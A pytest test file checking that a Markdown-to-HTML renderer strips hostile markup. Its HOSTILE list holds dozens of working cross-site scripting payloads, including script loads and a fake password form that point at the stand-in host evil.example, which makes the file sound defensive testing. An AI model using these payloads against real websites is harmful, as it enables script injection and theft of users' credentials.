"""Markdown that other people wrote → safe HTML, as a browser would take it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.outputs.richtext import rich_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "<p onclick=alert(1) style=position:fixed id=x class=y>hola</p>",
    "<b onmouseover='alert(1)'>hola</b>",
    "<a/onclick=alert(1)/href=https://a.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover='alert(1)'>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=&#x6a;avascript:alert(1) target=_blank ping=//evil.example>x</a>",
    "<a href='https://a.example' style='inset:0;position:fixed' download>x</a>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=clave><button>Entrar</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x\n  onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>\n\n## {: onclick=alert(1) }",
    "</div></article></body><script>alert(1)</script>",
    "<div><div><p><script>alert(1)",
    '<a href="https://a.example/?q=<script>">x</a>',
    "\x00<script>\x00alert(1)</script>",
    "＜script＞alert(1)＜/script＞<b>\u202e</b>",
]
HARMLESS = {
    *("a", "p", "br", "strong", "em", "b", "i", "u", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "hr", "kbd", "sub", "sup"),
}
PIECES = st.lists(
    st.sampled_from(HOSTILE)
    | st.sampled_from(["<", ">", '"', "'", "`", "\n\n", "](", "[", "<p ", "</", "<!--", "-->", "&lt;", "<a href="])
    | st.text(max_size=8),
    max_size=6,
).map("".join)


def assert_harmless(found: list[tuple[str, dict[str, str | None]]]) -> None:
    """Nothing but words in their form, and links to where a reader may be sent."""
    for tag, attributes in found:
        assert tag in HARMLESS
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set())
        address = attributes.get("href") or "https:"
        assert address.startswith(("https:", "http:", "mailto:", "tel:")) or not re.search(r":|^[/\\]", address)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_left(elements, text: str) -> None:
    assert_harmless(elements(rich_text(text)))


@given(PIECES)
def test_nothing_hostile_is_left_of_pieces_put_together(elements, text: str) -> None:
    assert_harmless(elements(rich_text(text)))


@given(st.text(max_size=200))
def test_any_text_is_taken(elements, text: str) -> None:
    assert_harmless(elements(rich_text(text)))


def test_what_a_script_said_is_not_shown_as_text() -> None:
    assert rich_text("Hola <script>alert(1)</script><style>p{}</style>") == "<p>Hola </p>"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Uno\ndos", "<p>Uno<br>\ndos</p>"),
        ("**a** *b* `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("### Paso", "<h3>Paso</h3>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
    ],
)
def test_markdown_keeps_its_form(text: str, html: str) -> None:
    assert rich_text(text) == html


def test_tables_are_kept(elements) -> None:
    tags = [tag for tag, _ in elements(rich_text("| a | b |\n|---|---|\n| 1 | 2 |"))]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


@pytest.mark.parametrize(
    ("address", "href"),
    [
        ("https://a.example/x?y=1", "https://a.example/x?y=1"),
        ("mailto:ana@a.example", "mailto:ana@a.example"),
        ("tel:+582125550123", "tel:+582125550123"),
        ("manual/ventas/anular.md", "../../manual/ventas/anular/"),
        ("portal.md#buscar", "../../portal/#buscar"),
        ("manual/index.md", "../../manual/"),
        ("index.md", "../../"),
        ("manual/reindex.md", "../../manual/reindex/"),
        ("HTTPS://a.example", "HTTPS://a.example"),
    ],
)
def test_a_link_leads_to_where_the_site_has_it(elements, address: str, href: str) -> None:
    ((_, attributes),) = [found for found in elements(rich_text(f"[x]({address})", root="../../")) if found[0] == "a"]
    assert attributes["href"] == href


@pytest.mark.parametrize(
    "address", ["x", "x.html", "/x", "#x", "?x", "x.md?y", "p/otro/", "ftp://a.example", "https", "//evil.example/x.md"]
)
def test_other_relative_links_are_dropped(address: str) -> None:
    html = rich_text(f"[x]({address})")
    assert ">x</a>" in html
    assert "href" not in html
